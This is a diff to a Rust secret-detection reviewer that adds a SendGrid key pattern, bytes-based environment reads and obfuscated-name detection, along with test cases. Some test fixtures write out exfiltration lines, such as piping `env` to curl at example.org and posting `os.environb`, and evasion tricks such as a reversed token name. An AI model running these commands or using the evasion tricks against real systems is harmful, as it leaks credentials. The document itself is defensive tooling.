@@ -9,6 +9,8 @@
 //! person's client for a service needs its token). A message never repeats the secret: it names
 //! the pattern and shows at most its first four characters.
 
+mod shapes;
+
 use super::code_lines::{self, code_of};
 use super::{finding, key_material, ChangeView, Finding, Severity};
 
@@ -34,6 +36,9 @@ fn upper_alnum(c: char) -> bool {
 }
 fn key_char(c: char) -> bool {
     c.is_ascii_alphanumeric() || c == '_' || c == '-'
+}
+fn dotted_key_char(c: char) -> bool {
+    key_char(c) || c == '.'
 }
 
 const TOKENS: &[Token] = &[
@@ -158,6 +163,12 @@ const TOKENS: &[Token] = &[
         what: "a Stripe restricted key",
     },
     Token {
+        prefix: "SG.",
+        min: 66,
+        chars: dotted_key_char,
+        what: "a SendGrid API key",
+    },
+    Token {
         prefix: "xapp-",
         min: 20,
         chars: key_char,
@@ -186,6 +197,9 @@ const ENV_READS: &[&str] = &[
     "getenv(",
     "os.environ[",
     "os.environ.get(",
+    "os.environb[",
+    "os.environb.get(",
+    "os.getenvb(",
     "process.env.",
     "process.env[",
     "Deno.env.get(",
@@ -427,7 +441,8 @@ fn credential_name(name: &str) -> bool {
 fn credential_env(code: &str, line: &str) -> Option<String> {
     for read in ENV_READS {
         for (at, _) in code.match_indices(read) {
-            let rest = line[at + read.len()..].trim_start_matches(['"', '\'', ' ', '`']);
+            let rest = bytes_literal(&line[at + read.len()..]);
+            let rest = rest.trim_start_matches(['"', '\'', ' ', '`']);
             let name: String = rest
                 .chars()
                 .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
@@ -458,7 +473,9 @@ fn whole_env(line: &str) -> bool {
                 && !named.iter().any(|n| after.starts_with(n))
         })
     };
-    whole("os.environ", &["[", ".get("]) || whole("process.env", &[".", "["])
+    whole("os.environ", &["[", ".get("])
+        || whole("os.environb", &["[", ".get("])
+        || whole("process.env", &[".", "["])
 }
 
 /// The read of one environment variable whose name is not a string literal, nor a name the
@@ -472,7 +489,7 @@ fn computed_env<'a>(code: &'a str, line: &str, file: &str) -> Option<&'a str> {
             if before.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
                 continue;
             }
-            let arg = line[at + read.len()..].trim_start();
+            let arg = bytes_literal(line[at + read.len()..].trim_start());
             // Shown with its literals blanked: a message never repeats what a literal holds.
             let blanked = code[at + read.len()..].trim_start();
             let shown = &blanked[..blanked
@@ -486,8 +503,9 @@ fn computed_env<'a>(code: &'a str, line: &str, file: &str) -> Option<&'a str> {
                 };
                 let after = arg[end + 2..].trim_start();
                 let substituted = q == '`' && arg[1..end + 1].contains("${");
-                // `"GITHUB_" "TOKEN"`: adjacent literals are one, computed (Python, C).
-                if substituted || after.starts_with(['+', '%', '.', '"', '\'']) {
+                // `"GITHUB_" "TOKEN"`: adjacent literals are one, computed (Python, C);
+                // `"NEKOT_"[::-1]`, `"X" * 2`: a literal sliced or repeated.
+                if substituted || after.starts_with(['+', '%', '.', '"', '\'', '[', '*']) {
                     return Some(shown);
                 }
                 continue;
@@ -506,6 +524,15 @@ fn computed_env<'a>(code: &'a str, line: &str, file: &str) -> Option<&'a str> {
         }
     }
     None
+}
+
+/// `s` without a Python bytes prefix (`b"GITHUB_TOKEN"` names the variable `"GITHUB_TOKEN"`
+/// does).
+fn bytes_literal(s: &str) -> &str {
+    match s.strip_prefix(['b', 'B']) {
+        Some(rest) if rest.starts_with(['"', '\'']) => rest,
+        _ => s,
+    }
 }
 
 /// The string literal `file` binds `ident` to on a line of its own (`const X: &str = "…";`,
@@ -684,6 +711,15 @@ pub fn check(reviewer: &str, change: &ChangeView) -> Vec<Finding> {
                     let named = named_outside(words, at, at + l.len());
                     (named || l.len() >= 32).then_some((l, named))
                 });
+                let shaped = found.is_none().then(|| shapes::find(line)).flatten();
+                if let Some((what, secret)) = shaped {
+                    push(
+                        Severity::Blocking,
+                        *n,
+                        format!("{what} ({}) at line {n}", preview(secret)),
+                        remove,
+                    );
+                }
                 if let Some((lit, named)) = found {
                     if named {
                         push(
@@ -997,6 +1033,9 @@ mod tests {
                 ..case("a computed name with a token as its default", "tools/x.py", None, &format!("t = os.{}.get(name, \"gh{}_{}\")\n", concat!("envi", "ron"), "p", noise(&alnum(), 36, 28)), &[B, B], "")
             },
             case("rust name in a variable", "src/a.rs", None, &format!("let t = std::env::{}(&name);\n", "var"), &[B], "computed name"),
+            case("the environment as bytes", "tools/x.py", None, &format!("import requests\nrequests.post(URL, data=repr(os.{}b))\n", concat!("envi", "ron")), &[B], "whole environment"),
+            case("a token read as bytes", "tools/x.py", None, &format!("t = os.{}b[b\"GITHUB_TOKEN\"]\n", concat!("envi", "ron")), &[M], "GITHUB_TOKEN"),
+            case("python name reversed", "tools/x.py", None, &format!("t = os.{}[\"NEKOT_BUHTIG\"[::-1]]\n", concat!("envi", "ron")), &[B], "computed name"),
             case("environ by reflection", "tools/x.py", None, &format!("e = getattr(os, \"{}\")\n", concat!("envi", "ron")), &[B], "whole environment"),
             case("env printed by a subprocess", "tools/x.py", None, &format!("out = subprocess.run([\"{}\"], capture_output=True)\n", concat!("print", "env")), &[B], "whole environment"),
             case("env piped in a shell script", "scripts/ci.sh", None, &format!("{} | curl -d @- https://example.org\n", concat!("en", "v")), &[B], "whole environment"),
@@ -1030,6 +1069,25 @@ mod tests {
             case("var imported as another name", "src/a.rs", None, &format!("use std::env::{} as lookup;\nfn f() {{ let t = lookup([\"GITHUB\", \"TOKEN\"].join(\"_\")); ureq::post(URL).send(t); }}\n", "var"), &[B], "computed name"),
             case("the environment on the next line (JavaScript)", "web/x.js", None, &format!("fetch(URL, {{ body: JSON.stringify({}\n  .env) }});\n", concat!("proc", "ess")), &[B], "whole environment"),
             case("adjacent literals (Python)", "tools/x.py", None, &format!("import requests\nt = os.{}.get(\"GITHUB_\" \"TOKEN\")\nrequests.post(URL, data=t)\n", concat!("envi", "ron")), &[B], "computed name"),
+            Case {
+                secret: noise(&alnum(), 24, 30),
+                ..case("an unquoted value in .env", ".env.production", None, &format!("STRIPE_SECRET={}\n", noise(&alnum(), 24, 30)), &[B], "credential's name")
+            },
+            Case {
+                secret: noise(&alnum(), 24, 31),
+                ..case("an unquoted value in YAML", "config/app.yml", None, &format!("  api_key: {}\n", noise(&alnum(), 24, 31)), &[B], "credential's name")
+            },
+            case("a key with dots", "config/mail.ini", None, &format!("key = S{}.{}.{}\n", "G", noise(&alnum(), 22, 32), noise(&alnum(), 43, 33)), &[B], "SendGrid"),
+            Case {
+                secret: noise(&alnum(), 14, 34),
+                ..case("a database URL with a password", ".env", None, &format!("DATABASE_URL=postgres://app:{}@db.internal/app\n", noise(&alnum(), 14, 34)), &[B], "password")
+            },
+            case("a JSON Web Token", "tests/fixtures.py", None, &format!("AUTH_HEADER = 'Bearer ey{}{}.{}.{}'\n", "J", noise(&alnum(), 20, 38), noise(&alnum(), 30, 35), noise(&alnum(), 40, 36)), &[B], "JSON Web Token"),
+            case("HTTP Basic credentials", "tools/x.py", None, &format!("headers = {{'Authorization': 'Basic {}'}}\n", b64(format!("deploy:{}", noise(&alnum(), 12, 37)).as_bytes())), &[B], "Basic"),
+            case("a URL whose password is a variable", ".env", None, "DATABASE_URL=postgres://app:${DB_PASSWORD}@db/app\n", &[], ""),
+            case("a placeholder password in YAML", "config/app.yml", None, "  password: changeme\n", &[], ""),
+            case("a token's lifetime", "config/app.ini", None, "token_ttl = 3600\n", &[], ""),
+            case("an ssh URL", "README.md", None, "git clone ssh://git@example.org/x.git\n", &[], ""),
             case("a field named vars", "src/a.rs", None, "use std::env::var as lookup;\nfn f(s: &S) -> usize { s.vars.len() + s.lookup(1) }\n", &[], ""),
         ]
     }
